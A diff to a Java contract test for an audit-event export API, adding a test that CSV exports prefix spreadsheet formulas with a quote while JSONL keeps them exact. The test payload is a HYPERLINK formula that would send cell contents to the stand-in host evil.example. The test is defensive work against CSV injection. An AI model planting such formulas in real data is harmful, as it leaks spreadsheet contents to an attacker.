@@ -11,6 +11,7 @@ import static org.hamcrest.Matchers.equalTo;
 import static org.hamcrest.Matchers.startsWith;
 
 import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.portcullis.policy.support.Api;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
 import java.util.List;
@@ -67,6 +68,24 @@ public abstract class ExportApiContract {
                 .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
         assertThat(cef.lines()).hasSize(3).allMatch(l -> l.startsWith("CEF:0|Portcullis|policy-service|"));
         assertThat(cef).contains("line1\\\\nline2\\=x").contains("|LOGIN_ERROR|LOGIN_ERROR failure|6|");
+    }
+
+    /** A prober's username that is a spreadsheet formula opens as text from the CSV, and stays exact elsewhere. */
+    @Test
+    void aFormulaInAReportedEventOpensAsTextFromTheCsv() throws Exception {
+        String service = createService(uniqueName("vpn"), "events");
+        String formula = "=hyperlink(\"http://evil.example/\"&a1,\"" + uniqueName("x") + "\")";
+        as(service).body(Api.event("LOGIN_ERROR", formula)).post("/api/v1/events").then().statusCode(200);
+        String csv = admin().queryParam("subject", formula).queryParam("format", "csv")
+                .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
+        var rows = new com.fasterxml.jackson.dataformat.csv.CsvMapper().readerFor(Map.class)
+                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader())
+                .<Map<String, String>>readValues(csv).readAll();
+        assertThat(rows).singleElement().satisfies(row -> assertThat(row).containsEntry("subject", "'" + formula));
+        String jsonl = admin().queryParam("subject", formula).queryParam("format", "jsonl")
+                .get("/api/v1/audit/events").then().statusCode(200).extract().asString();
+        assertThat(new ObjectMapper().readTree(jsonl.lines().findFirst().orElseThrow()).get("subject").asText())
+                .isEqualTo(formula);
     }
 
     @Test
